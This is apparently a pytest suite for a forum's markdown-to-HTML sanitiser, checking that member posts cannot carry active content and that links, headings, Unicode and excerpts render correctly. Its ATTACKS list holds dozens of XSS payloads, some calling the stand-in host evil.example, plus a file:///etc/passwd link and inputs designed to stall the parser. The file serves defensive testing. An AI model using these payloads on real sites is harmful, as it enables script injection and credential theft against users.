"""What members write is safe, whatever they write."""

from __future__ import annotations

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from communities.markup import ATTRIBUTES, EXCERPT_LENGTH, LINK_REL, SCHEMES, TAGS, plain, render

LONGEST = 20_000
"""Characters of the longest post."""


class Inspector(HTMLParser):
    """Collects the tags and links of some HTML and complains about whatever is not on the list."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[str | None] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, f"<{tag}> is not on the list"
        names = {name for name, _ in attrs}
        assert names <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()), f"{names} on <{tag}>"
        if tag == "a":
            values = dict(attrs)
            assert values.get("rel") == LINK_REL
            href = values.get("href")
            if href is not None:
                assert urlsplit(href).scheme in SCHEMES | {""}, f"a link to {href}"
            self.links.append(href)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    handle_decl = handle_pi = unknown_decl = handle_comment

    def handle_data(self, data: str) -> None:
        self.text += data


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<form action=//evil.example><input name=password><button>Go",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<a href=javascript:alert(1)>x</a>",
    "<p style=background:url(//evil.example)>x</p>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "</p></div></li></ol><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](blob:http://testserver/1)",
    '[x](http://a.example "onmouseover=alert(1)")',
    '[x](http://a.example" onmouseover="alert(1))',
    "[x](<http://a.example onmouseover=alert(1)>)",
    '[x](http://a.example/"><script>alert(1)</script>)',
    "<javascript:alert(1)>",
    "<http://a.example/?<script>alert(1)</script>>",
    "http://a.example/'onmouseover='alert(1)",
    'www.a.example/"onmouseover="alert(1)',
    "![x](x onerror=alert(1))",
    "![x](http://a.example/pixel.png)",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "[a]: javascript:alert(1)\n\n[a]",
    "# <img src=x onerror=alert(1)>",
    "<h\x001><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</script>",
    "{{ request.user }} {% load i18n %}",
    "<a id=thread name=posts>x</a>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_could_act_gets_through(attack: str) -> None:
    html = render(attack)
    inspect(html)
    inspect(render(html))
    inspect(render(f"> {attack}\n\n- {attack}"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_could_act_stays_in_an_excerpt_that_a_page_escapes(attack: str) -> None:
    assert isinstance(plain(render(attack)), str)
    assert "\x00" not in plain(render(attack))


def test_what_looks_like_html_is_shown_as_it_was_written() -> None:
    assert render('Use <b> & "quotes"') == '<p>Use &lt;b&gt; &amp; "quotes"</p>'


def test_paragraphs_lines_lists_and_emphasis_are_kept() -> None:
    html = render("One *two* **three** ~~four~~\nfive\n\n- a\n- b\n\n3. c\n\n> quoted")
    assert "<p>One <em>two</em> <strong>three</strong> <s>four</s><br>\nfive</p>" in html
    assert "<li>a</li>" in html
    assert '<ol start="3">' in html
    assert "<blockquote>" in html


def test_headings_stay_below_those_of_the_page() -> None:
    html = render("# a\n\n## b\n\n### c\n\n#### d\n\n###### e")
    assert html.split() == ["<h3>a</h3>", "<h3>b</h3>", "<h4>c</h4>", "<h4>d</h4>", "<h4>e</h4>"]


@pytest.mark.parametrize(
    ("written", "href"),
    [
        ("[guide](https://a.example/x?y=1&z=2)", "https://a.example/x?y=1&z=2"),
        ("see https://a.org/x.", "https://a.org/x"),
        ("https://www.gov.scot/x and on", "https://www.gov.scot/x"),
        ("https://heiw.nhs.wales", "https://heiw.nhs.wales"),
        ("(www.a.org/x)", "http://www.a.org/x"),
        ("<https://a.example>", "https://a.example"),
        ("[write](mailto:a@b.example)", "mailto:a@b.example"),
        ("[here](/communities/)", "/communities/"),
        ("https://a.org/caf\u00e9", "https://a.org/caf\u00e9"),
    ],
)
def test_addresses_become_links(written: str, href: str) -> None:
    assert inspect(render(written)).links == [href]


@pytest.mark.parametrize("written", ["`https://a.org`", "```\nhttps://a.org\n```", "v1.2.3", "e.g. this", "3.5"])
def test_what_is_no_address_becomes_no_link(written: str) -> None:
    assert inspect(render(written)).links == []


def test_pictures_from_elsewhere_are_not_shown() -> None:
    assert "<img" not in render("![x](https://a.example/pixel.png)")


@pytest.mark.parametrize(
    "text",
    [
        "\U0001f9d1\u200d\u2695\ufe0f \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062",
        "مرحبا بالعالم",
        "שלום *עולם*",
        "\u202eright to left override\u202c",
        "n\u0303 Z\u0351\u0343\u0342",
        "日本語",
        "Ȧḓḓ",
    ],
)
def test_every_script_and_every_emoji_is_kept(text: str) -> None:
    assert inspect(render(text)).text.strip() == text.replace("*", "")


def test_nothing_makes_nothing() -> None:
    assert render("") == render(" \n\t ") == plain("") == ""


BLOW_UPS = {
    "brackets": "[",
    "links within links": "[a](",
    "pictures": "![",
    "emphasis": "*a ",
    "stars": "*",
    "underscores": "_a",
    "strong and emphasis": "**x *a ",
    "strike": "~~a",
    "quotes": ">",
    "quoted lists": "> - ",
    "lists": "- ",
    "backticks": "`",
    "backtick and less": "`<",
    "less": "<",
    "comments": "<!--",
    "cdata": "<![CDATA[",
    "ampersands": "&",
    "entities": "&#0;",
    "addresses": "a.co ",
    "schemes": "http://",
    "www": "www.",
    "dots": "a.",
    "at": "a@",
    "mail": "a@b.co ",
    "colons": "a:",
    "hyphens": "a-",
    "references": "[a]: b\n",
    "headings": "# a\n",
    "rules": "---\n",
    "lines": "x\n",
    "spaces": " ",
    "tabs": "\t",
    "returns": "\r",
    "accents": "a\u0301",
    "overrides": "\u202e",
    "zeros": "\0",
    "parentheses of an address": "http://a.example/(",
    "square addresses": "http://[",
}


@pytest.mark.parametrize("piece", BLOW_UPS.values(), ids=BLOW_UPS.keys())
def test_no_post_takes_long_or_grows_out_of_bounds(piece: str) -> None:
    text = (piece * LONGEST)[:LONGEST]
    started = time.process_time()

    html = render(text)

    assert time.process_time() - started < 2
    assert len(html) < 20 * LONGEST
    inspect(html)


def test_growing_backticks_and_deep_lists_take_no_longer() -> None:
    started = time.process_time()
    render("".join("`" * n + " " for n in range(1, 199)))
    render("\n".join("  " * n + "- x" for n in range(190)))
    render("[a]: http://x.example\n" + "[a]" * (LONGEST // 3))
    assert time.process_time() - started < 2


def test_an_excerpt_is_one_line_of_plain_words() -> None:
    html = render('We *began*, then **stopped**.\n\n- one\n- two\n\nA\u00a0& B < C "d"')
    assert plain(html) == 'We began, then stopped. one two A & B < C "d"'


def test_a_long_excerpt_is_cut_at_a_word() -> None:
    text = plain(render("improvement " * 50))
    assert len(text) <= EXCERPT_LENGTH + 1
    assert text.endswith("improvement…")


def test_a_long_word_is_cut_where_it_must_be() -> None:
    assert len(plain(render("x" * 1000))) <= EXCERPT_LENGTH + 2
